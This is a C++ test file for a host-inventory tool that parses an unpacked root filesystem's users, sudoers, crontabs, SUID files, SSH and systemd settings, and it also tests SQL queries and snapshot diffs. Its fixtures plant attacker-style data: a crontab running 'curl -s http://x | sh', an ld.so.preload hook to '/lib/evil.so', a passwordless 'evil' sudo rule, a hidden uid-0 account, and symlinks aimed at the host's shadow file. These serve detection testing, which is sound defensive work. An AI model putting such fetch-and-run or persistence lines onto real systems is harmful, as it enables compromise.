// Assets over an unpacked root filesystem built by the test: the root's own
// files are read, hostile links never reach the host, bad files fail only
// their table; SQL over the tables; docs/tables.md is current.
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <algorithm>
#include <string>
#include <vector>

#include "assets/tables.hpp"
#include "gtest/gtest.h"
#include "tests/support/generated_doc.hpp"
#include "vigil/assets.hpp"

namespace vigil {
namespace {

namespace fs = std::filesystem;

class RootFsTest : public ::testing::Test {
 protected:
  void SetUp() override {
    root_ = fs::temp_directory_path() /
            ("vigil-assets-" + std::to_string(getpid()) + "-" +
             ::testing::UnitTest::GetInstance()->current_test_info()->name());
    fs::remove_all(root_);
    fs::create_directories(root_ / "etc");
    fs::create_directories(root_ / "var/lib/dpkg");
    Write("etc/passwd", "root:x:0:0:root:/root:/bin/sh\nimg:x:1234:1234::/home/img:/bin/sh\n");
    Write("etc/group", "root:x:0:\nimg:x:1234:\n");
    Write("etc/os-release", "ID=vigiltest\nVERSION_ID=\"7\"\nNAME=\"Vigil Test OS\"\n");
    Write("var/lib/dpkg/status",
          "Package: tool\nStatus: install ok installed\nVersion: 1.0\nArchitecture: all\n\n"
          "Package: gone\nStatus: deinstall ok config-files\nVersion: 0.9\n");
  }
  void TearDown() override { fs::remove_all(root_); }

  void Write(const std::string& rel, const std::string& text) {
    fs::create_directories((root_ / rel).parent_path());
    std::ofstream(root_ / rel, std::ios::binary | std::ios::trunc) << text;
  }
  std::unique_ptr<Assets> Open(AssetOptions o = {}) {
    auto a = Assets::OpenRoot(root_.string(), o);
    EXPECT_TRUE(a.ok()) << a.status().ToString();
    return a.ok() ? std::move(*a) : nullptr;
  }
  static std::string Cell(const AssetTable& t, size_t row, const char* col) {
    int c = t.ColumnIndex(col);
    if (c < 0 || row >= t.rows.size()) return "<missing>";
    return AssetValueToString(t.rows[row][static_cast<size_t>(c)]);
  }

  fs::path root_;
};

TEST_F(RootFsTest, ReadsTheRootsOwnFiles) {
  auto a = Open();
  ASSERT_TRUE(a);
  AssetTable users = a->Collect("users");
  ASSERT_TRUE(users.status.ok()) << users.status.ToString();
  ASSERT_EQ(users.rows.size(), 2u);
  EXPECT_EQ(Cell(users, 1, "username"), "img");
  EXPECT_EQ(Cell(users, 1, "uid"), "1234");
  AssetTable os = a->Collect("os_version");
  ASSERT_TRUE(os.status.ok()) << os.status.ToString();
  EXPECT_EQ(Cell(os, 0, "id"), "vigiltest");
  EXPECT_EQ(Cell(os, 0, "version_id"), "7");
  AssetTable debs = a->Collect("deb_packages");
  ASSERT_EQ(debs.rows.size(), 2u);
  EXPECT_EQ(Cell(debs, 0, "name"), "tool");
  EXPECT_EQ(Cell(debs, 1, "status"), "config-files");
  // A root filesystem has no processes: live tables say so instead of
  // reporting the host's.
  AssetTable procs = a->Collect("processes");
  EXPECT_EQ(procs.status.code(), StatusCode::kUnavailable) << procs.status.ToString();
  EXPECT_TRUE(procs.rows.empty());
  for (const AssetTable& t : a->CollectAll())
    EXPECT_NE(t.name, "processes") << "CollectAll must skip live tables on a rootfs";
  // No shadow file in this root: NotFound for that table only.
  EXPECT_EQ(a->Collect("shadow").status.code(), StatusCode::kNotFound);
  EXPECT_EQ(a->Collect("no_such_table").status.code(), StatusCode::kNotFound);
}

TEST_F(RootFsTest, SymlinksAndDotDotStayInsideTheRoot) {
  // An image whose /etc/shadow points at the host's, absolutely and through
  // "..": both must resolve inside the root (where there is none).
  fs::create_symlink("/etc/shadow", root_ / "etc/shadow");
  fs::create_directories(root_ / "usr/lib");
  fs::create_symlink("../../../../../../../../etc/passwd", root_ / "usr/lib/os-release");
  fs::remove(root_ / "etc/os-release");
  auto a = Open();
  ASSERT_TRUE(a);
  // etc/shadow -> /etc/shadow is, inside the root, a link to itself.
  AssetTable shadow = a->Collect("shadow");
  EXPECT_EQ(shadow.status.code(), StatusCode::kPermissionDenied) << shadow.status.ToString();
  EXPECT_TRUE(shadow.rows.empty());
  // os-release -> ../../..../etc/passwd resolves to the *root's* etc/passwd,
  // which has no os-release keys: empty values, never the host's os.
  AssetTable os = a->Collect("os_version");
  ASSERT_TRUE(os.status.ok()) << os.status.ToString();
  ASSERT_EQ(os.rows.size(), 1u);
  EXPECT_EQ(Cell(os, 0, "id"), "");
  // A link to the host's /etc/passwd through an absolute path reads the root's.
  fs::remove(root_ / "etc/passwd");
  fs::create_directories(root_ / "real");
  Write("real/passwd", "inside:x:5:5::/:/bin/sh\n");
  fs::create_symlink("/real/passwd", root_ / "etc/passwd");
  AssetTable users = a->Collect("users");
  ASSERT_TRUE(users.status.ok()) << users.status.ToString();
  ASSERT_EQ(users.rows.size(), 1u);
  EXPECT_EQ(Cell(users, 0, "username"), "inside");
}

TEST_F(RootFsTest, BadFilesFailOnlyTheirTable) {
  // A FIFO as /etc/group (must not block), a /var/lib/dpkg/status over the
  // size bound, and a passwd with garbage lines.
  fs::remove(root_ / "etc/group");
  ASSERT_EQ(mkfifo((root_ / "etc/group").c_str(), 0600), 0);
  Write("var/lib/dpkg/status", std::string(4096, 'x'));
  Write("etc/passwd", "ok:x:1:1::/:/bin/sh\n\x01\x02garbage\n");
  AssetOptions o;
  o.max_file_bytes = 1024;
  auto a = Open(o);
  ASSERT_TRUE(a);
  AssetTable group = a->Collect("groups");
  EXPECT_EQ(group.status.code(), StatusCode::kInvalidArgument) << group.status.ToString();
  EXPECT_NE(group.status.message().find("/etc/group"), std::string::npos);
  AssetTable debs = a->Collect("deb_packages");
  EXPECT_EQ(debs.status.code(), StatusCode::kResourceExhausted) << debs.status.ToString();
  EXPECT_NE(debs.status.message().find("/var/lib/dpkg/status"), std::string::npos);
  AssetTable users = a->Collect("users");
  EXPECT_TRUE(users.status.ok());
  EXPECT_EQ(users.rows.size(), 1u);
  ASSERT_EQ(users.warnings.size(), 1u);
  EXPECT_EQ(users.warnings[0].rfind("/etc/passwd:2:", 0), 0u) << users.warnings[0];
  AssetTable os = a->Collect("os_version");
  EXPECT_TRUE(os.status.ok()) << "the other tables are unaffected";
}

TEST_F(RootFsTest, HostileNamesAreEscapedInOutputs) {
  Write("etc/passwd", std::string("ev\til:x:1:1:\xff\xfe bad utf8:/home/\x1b[31m:/bin/sh\n"));
  auto a = Open();
  ASSERT_TRUE(a);
  AssetTable users = a->Collect("users");
  ASSERT_EQ(users.rows.size(), 1u);
  std::string json = AssetTableToJson(users);
  EXPECT_EQ(json.find('\n'), std::string::npos);
  EXPECT_EQ(json.find('\x1b'), std::string::npos) << "control characters must be escaped";
  EXPECT_NE(json.find("\\u001b"), std::string::npos) << json;
}

// File names with a newline and bytes that are not UTF-8: rows keep the
// bytes as found, outputs escape them, and no other row is affected.
TEST_F(RootFsTest, FileNamesWithNewlinesAndInvalidUtf8) {
  const std::string cron = std::string("etc/cron.d/job\nsplit\xff");
  const std::string suid = std::string("usr/bin/su\nroot\xfe");
  Write(cron, "* * * * * root /bin/true\n");
  Write("etc/cron.d/plain", "0 1 * * * root /bin/date\n");
  Write(suid, "x");
  ASSERT_EQ(chmod((root_ / suid).c_str(), 04755), 0);
  auto a = Open();
  ASSERT_TRUE(a);
  AssetTable crontab = a->Collect("crontab");
  ASSERT_TRUE(crontab.status.ok()) << crontab.status.ToString();
  std::vector<std::string> paths;
  for (size_t r = 0; r < crontab.rows.size(); ++r) paths.push_back(Cell(crontab, r, "path"));
  std::sort(paths.begin(), paths.end());
  EXPECT_EQ(paths, (std::vector<std::string>{"/" + cron, "/etc/cron.d/plain"}));
  AssetTable bins = a->Collect("suid_bins");
  ASSERT_TRUE(bins.status.ok()) << bins.status.ToString();
  ASSERT_EQ(bins.rows.size(), 1u);
  EXPECT_EQ(Cell(bins, 0, "path"), "/" + suid);
  for (const AssetTable* t : {&crontab, &bins}) {
    const std::string json = AssetTableToJson(*t);
    EXPECT_EQ(json.find('\n'), std::string::npos) << json;
    EXPECT_NE(json.find("\\n"), std::string::npos) << json;
  }
  // SQL sees the same bytes.
  auto q = a->Query("select count(*) from crontab where path like '%split%'");
  ASSERT_TRUE(q.ok()) << q.status().ToString();
  EXPECT_EQ(AssetValueToString(q->rows[0][0]), "1");
}

TEST_F(RootFsTest, SqlOverTheTables) {
  auto a = Open();
  ASSERT_TRUE(a);
  auto q = a->Query(
      "select u.username, g.groupname from users u join groups g on u.gid = g.gid "
      "where u.uid >= 1000 order by u.uid");
  ASSERT_TRUE(q.ok()) << q.status().ToString();
  ASSERT_EQ(q->rows.size(), 1u);
  EXPECT_EQ(Cell(*q, 0, "username"), "img");
  EXPECT_EQ(Cell(*q, 0, "groupname"), "img");
  auto count = a->Query("select count(*) as n from deb_packages where status = 'installed'");
  ASSERT_TRUE(count.ok()) << count.status().ToString();
  EXPECT_EQ(std::get<int64_t>(count->rows[0][0]), 1);
  // Errors: syntax, unknown table, a table that fails, writes, two statements.
  EXPECT_EQ(a->Query("selec * from users").status().code(), StatusCode::kInvalidArgument);
  auto unknown = a->Query("select * from nope");
  EXPECT_EQ(unknown.status().code(), StatusCode::kInvalidArgument);
  EXPECT_NE(unknown.status().message().find("nope"), std::string::npos);
  auto live = a->Query("select * from processes");
  EXPECT_FALSE(live.ok());
  EXPECT_NE(live.status().message().find("needs a running system"), std::string::npos)
      << live.status().ToString();
  EXPECT_FALSE(a->Query("create table t(x)").ok());
  EXPECT_FALSE(a->Query("select 1; select 2").ok());
  EXPECT_FALSE(a->Query("attach database '/tmp/x.db' as x").ok());
}

// Rows of `t` as "col1|col2|..." for the given columns.
std::vector<std::string> Flat(const AssetTable& t, std::initializer_list<const char*> cols) {
  std::vector<std::string> out;
  for (const auto& row : t.rows) {
    std::string line;
    for (const char* c : cols) {
      int i = t.ColumnIndex(c);
      line += (line.empty() ? "" : "|") + (i < 0 ? std::string("<no ") + c + ">"
                                               : AssetValueToString(row[static_cast<size_t>(i)]));
    }
    out.push_back(line);
  }
  return out;
}

using Lines = std::vector<std::string>;

TEST_F(RootFsTest, SshdConfigEffectiveValuesIncludesMatchAndDefaults) {
  Write("etc/ssh/sshd_config",
        "# comment\nInclude /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin yes\n"
        "PasswordAuthentication=no\nMatch User backup\n  PasswordAuthentication yes\n");
  Write("etc/ssh/sshd_config.d/10-site.conf", "permitrootlogin no\nPort 2222\n");
  Write("etc/ssh/sshd_config.d/ignored.txt", "Port 1\n");
  auto a = Open();
  ASSERT_TRUE(a);
  AssetTable t = a->Collect("sshd_config");
  ASSERT_TRUE(t.status.ok()) << t.status.ToString();
  Lines rows = Flat(t, {"keyword", "value", "source", "match", "is_default"});
  auto has = [&](const std::string& r) { return std::find(rows.begin(), rows.end(), r) != rows.end(); };
  // The included file comes first, so its PermitRootLogin wins (sshd semantics).
  EXPECT_TRUE(has("permitrootlogin|no|/etc/ssh/sshd_config.d/10-site.conf:1||0"));
  EXPECT_TRUE(has("port|2222|/etc/ssh/sshd_config.d/10-site.conf:2||0"));
  EXPECT_TRUE(has("passwordauthentication|no|/etc/ssh/sshd_config:4||0"));
  EXPECT_TRUE(has("passwordauthentication|yes|/etc/ssh/sshd_config:6|User backup|0"));
  EXPECT_TRUE(has("permitemptypasswords|no|default||1"));
  EXPECT_FALSE(has("permitrootlogin|yes|/etc/ssh/sshd_config:3||0")) << "the second value must lose";
  for (const auto& r : rows) EXPECT_EQ(r.find("|1|/etc/ssh/sshd_config.d/ignored.txt"), std::string::npos);
}

TEST_F(RootFsTest, SudoersRulesAndIncludes) {
  Write("etc/sudoers",
        "Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL) \\\n    NOPASSWD: ALL\n"
        "@includedir /etc/sudoers.d\n");
  Write("etc/sudoers.d/deploy", "deploy ALL=(root) NOPASSWD: /usr/bin/systemctl restart app\n");
  Write("etc/sudoers.d/skipped.bak", "evil ALL=(ALL) NOPASSWD: ALL\n");
  auto a = Open();
  ASSERT_TRUE(a);
  AssetTable t = a->Collect("sudoers");
  ASSERT_TRUE(t.status.ok()) << t.status.ToString();
  Lines rules;
  for (const auto& r : Flat(t, {"kind", "principal", "nopasswd", "all_commands", "path", "line"}))
    if (r.rfind("rule|", 0) == 0) rules.push_back(r);
  EXPECT_EQ(rules, (Lines{"rule|root|0|1|/etc/sudoers|2", "rule|%sudo|1|1|/etc/sudoers|3",
                          "rule|deploy|1|0|/etc/sudoers.d/deploy|1"}));
}

TEST_F(RootFsTest, CrontabsSystemAndPerUser) {
  Write("etc/crontab", "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n");
  Write("etc/cron.d/job", "@reboot root /opt/start.sh\n");
  Write("var/spool/cron/crontabs/alice", "*/5 * * * * curl -s http://x | sh\nbroken\n");
  auto a = Open();
  ASSERT_TRUE(a);
  AssetTable t = a->Collect("crontab");
  ASSERT_TRUE(t.status.ok()) << t.status.ToString();
  EXPECT_EQ(Flat(t, {"path", "user", "minute", "command"}),
            (Lines{"/etc/crontab|root|17|cd / && run-parts --report /etc/cron.hourly",
                   "/etc/cron.d/job|root|@reboot|/opt/start.sh",
                   "/var/spool/cron/crontabs/alice|alice|*/5|curl -s http://x | sh"}));
  ASSERT_EQ(t.warnings.size(), 1u);
  EXPECT_EQ(t.warnings[0].rfind("/var/spool/cron/crontabs/alice:2:", 0), 0u) << t.warnings[0];
}

TEST_F(RootFsTest, AuthorizedKeysApkAndStartupItems) {
  Write("etc/passwd", "root:x:0:0:root:/root:/bin/sh\nimg:x:1234:1234::/home/img:/bin/sh\n");
  Write("root/.ssh/authorized_keys",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG root@laptop\n"
        "from=\"10.0.0.0/8\",command=\"/bin/echo hi there\" ssh-rsa AAAAB3Nza ops key\n"
        "garbage\n");
  Write("lib/apk/db/installed", "C:Q1x\nP:musl\nV:1.2.4-r2\nA:x86_64\nI:622592\no:musl\n\nP:busybox\nV:1.36\n");
  Write("etc/ld.so.preload", "/lib/evil.so\n");
  auto a = Open();
  ASSERT_TRUE(a);
  AssetTable keys = a->Collect("authorized_keys");
  EXPECT_EQ(Flat(keys, {"username", "line", "key_type", "comment", "options"}),
            (Lines{"root|1|ssh-ed25519|root@laptop|",
                   "root|2|ssh-rsa|ops key|from=\"10.0.0.0/8\",command=\"/bin/echo hi there\""}));
  EXPECT_EQ(keys.warnings.size(), 1u);
  AssetTable apk = a->Collect("apk_packages");
  EXPECT_EQ(Flat(apk, {"name", "version", "source", "size"}),
            (Lines{"musl|1.2.4-r2|musl|622592", "busybox|1.36|busybox|"}));
  AssetTable items = a->Collect("startup_items");
  EXPECT_EQ(Flat(items, {"kind", "detail"}), (Lines{"ld.so.preload|/lib/evil.so"}));
}

TEST_F(RootFsTest, SuidBinsFoundWithoutFollowingLinks) {
  Write("usr/bin/su", "x");
  ASSERT_EQ(chmod((root_ / "usr/bin/su").c_str(), 04755), 0);
  Write("usr/bin/wall", "x");
  ASSERT_EQ(chmod((root_ / "usr/bin/wall").c_str(), 02755), 0);
  Write("usr/bin/plain", "x");
  // A symlink to a setuid file and a directory link out of the root: neither
  // is followed (the walk would otherwise report the host's setuid files).
  fs::create_symlink("/usr/bin/su", root_ / "usr/bin/su-link");
  fs::create_directory_symlink("/", root_ / "hostroot");
  auto a = Open();
  ASSERT_TRUE(a);
  AssetTable t = a->Collect("suid_bins");
  ASSERT_TRUE(t.status.ok()) << t.status.ToString();
  Lines rows = Flat(t, {"path", "mode", "suid", "sgid"});
  std::sort(rows.begin(), rows.end());
  EXPECT_EQ(rows, (Lines{"/usr/bin/su|4755|1|0", "/usr/bin/wall|2755|0|1"}));
  for (const AssetTable& all : a->CollectAll()) EXPECT_NE(all.name, "suid_bins");
  // A walk budget of zero entries stops at once, with a warning.
  AssetOptions o;
  o.walk_max_entries = 1;
  auto small = Open(o);
  AssetTable cut = small->Collect("suid_bins");
  EXPECT_TRUE(cut.status.ok());
  ASSERT_FALSE(cut.warnings.empty());
  EXPECT_NE(cut.warnings[0].find("walk budget"), std::string::npos);
}

TEST_F(RootFsTest, SnapshotsAndDiffs) {
  Write("etc/shadow", "root:*:19000:0:99999:7:::\nimg:$6$x$y:19000:0:99999:7:::\n");
  Write("usr/bin/tool", "x");
  auto a = Open();
  ASSERT_TRUE(a);
  const std::string before = (root_ / "before.db").string(), after = (root_ / "after.db").string();
  ASSERT_TRUE(a->Snapshot(before, {"users", "deb_packages", "suid_bins", "shadow", "groups"}).ok());
  // Between the two looks: a second uid-0 account, a new SUID file, an
  // upgraded package, a removed group, an emptied password.
  Write("etc/passwd",
        "root:x:0:0:root:/root:/bin/sh\nimg:x:1234:1234::/home/img:/bin/sh\ntoor:x:0:0::/:/bin/sh\n");
  Write("etc/group", "root:x:0:\n");
  Write("etc/shadow", "root:*:19000:0:99999:7:::\nimg::19001:0:99999:7:::\n");
  ASSERT_EQ(chmod((root_ / "usr/bin/tool").c_str(), 04755), 0);
  Write("var/lib/dpkg/status",
        "Package: tool\nStatus: install ok installed\nVersion: 1.1\nArchitecture: all\n\n"
        "Package: gone\nStatus: deinstall ok config-files\nVersion: 0.9\n");
  ASSERT_TRUE(a->Snapshot(after, {"users", "deb_packages", "suid_bins", "shadow", "groups"}).ok());
  auto diff = DiffAssetSnapshots(before, after);
  ASSERT_TRUE(diff.ok()) << diff.status().ToString();
  std::vector<std::string> got;
  for (const AssetChange& c : *diff)
    got.push_back(std::string(c.notable ? "!" : " ") + c.table + " " +
                  std::string(AssetChangeKindName(c.kind)) + " " + c.summary);
  EXPECT_EQ(got, (Lines{" deb_packages changed version 1.0 -> 1.1",
                        " groups removed removed groupname=img",
                        "!shadow changed password_status set -> empty, hash_algorithm sha512crypt -> , "
                        "last_change 19000 -> 19001",
                        "!suid_bins added new path=/usr/bin/tool",
                        "!users added new username=toor (uid 0)"}));
  // No change: no differences. A file that is not a snapshot: a clear error.
  auto same = DiffAssetSnapshots(after, after);
  ASSERT_TRUE(same.ok());
  EXPECT_TRUE(same->empty());
  Write("garbage.db", "not sqlite");
  auto bad = DiffAssetSnapshots(before, (root_ / "garbage.db").string());
  EXPECT_FALSE(bad.ok());
  EXPECT_NE(bad.status().message().find("garbage.db"), std::string::npos) << bad.status().ToString();
}

TEST_F(RootFsTest, SystemdUnitsAndImages) {
  Write("lib/systemd/system/app.service",
        "[Unit]\nDescription=My app\n[Service]\nUser=app\nExecStart=/opt/app \\\n  --port 80\n"
        "[Install]\nWantedBy=multi-user.target\n");
  Write("lib/systemd/system/idle.service", "[Unit]\nDescription=Idle\n[Service]\nExecStart=/bin/true\n[Install]\nWantedBy=multi-user.target\n");
  Write("lib/systemd/system/helper.service", "[Service]\nExecStart=/bin/helper\n");
  Write("etc/systemd/system/idle.service", "[Unit]\nDescription=Idle (local override)\n[Service]\nExecStart=/bin/false\n");
  fs::create_directories(root_ / "etc/systemd/system/multi-user.target.wants");
  fs::create_symlink("/lib/systemd/system/app.service", root_ / "etc/systemd/system/multi-user.target.wants/app.service");
  fs::create_symlink("/dev/null", root_ / "etc/systemd/system/bad.service");
  Write("var/lib/containers/storage/overlay-images/images.json",
        R"([{"id":"abc","names":["localhost/x:1","localhost/x:latest"],"digest":"sha256:d","created":"2026-01-01T00:00:00Z","layer":"l1"}])");
  auto a = Open();
  ASSERT_TRUE(a);
  AssetTable units = a->Collect("systemd_units");
  ASSERT_TRUE(units.status.ok()) << units.status.ToString();
  Lines rows = Flat(units, {"name", "state", "description", "exec_start", "user", "wanted_by"});
  std::sort(rows.begin(), rows.end());
  EXPECT_EQ(rows, (Lines{"app.service|enabled|My app|/opt/app  --port 80|app|multi-user.target",
                         "bad.service|masked||||",
                         "helper.service|static||/bin/helper||",
                         "idle.service|static|Idle (local override)|/bin/false||"}));
  AssetTable images = a->Collect("images");
  EXPECT_EQ(Flat(images, {"engine", "id", "names", "digest", "namespace"}),
            (Lines{"podman|abc|localhost/x:1,localhost/x:latest|sha256:d|"}));
  EXPECT_TRUE(images.warnings.empty());

  // A containerd database that is no bbolt file: a warning naming it, the
  // other engines' images still listed.
  Write("var/lib/containerd/io.containerd.metadata.v1.bolt/meta.db", std::string(8192, 'x'));
  images = a->Collect("images");
  ASSERT_TRUE(images.status.ok()) << images.status.ToString();
  EXPECT_EQ(images.rows.size(), 1u);
  ASSERT_EQ(images.warnings.size(), 1u);
  EXPECT_NE(images.warnings[0].find("/var/lib/containerd/io.containerd.metadata.v1.bolt/meta.db: not a bbolt database"),
            std::string::npos)
      << images.warnings[0];
}

TEST(AssetsDoc, IsUpToDate) {
  testing::ExpectGeneratedDocCurrent(std::string(VIGIL_SOURCE_DIR) + "/docs/tables.md",
                                     assets::TablesMarkdown(),
                                     "the table definitions (lib/assets/tables.cc)");
}

TEST(AssetsDoc, EveryTableHasColumnsAndDescriptions) {
  ASSERT_FALSE(AssetTables().empty());
  for (const AssetTableInfo& t : AssetTables()) {
    EXPECT_FALSE(t.description.empty()) << t.name;
    EXPECT_FALSE(t.columns.empty()) << t.name;
    for (const AssetColumn& c : t.columns) EXPECT_FALSE(c.description.empty()) << t.name << "." << c.name;
  }
}

}  // namespace
}  // namespace vigil
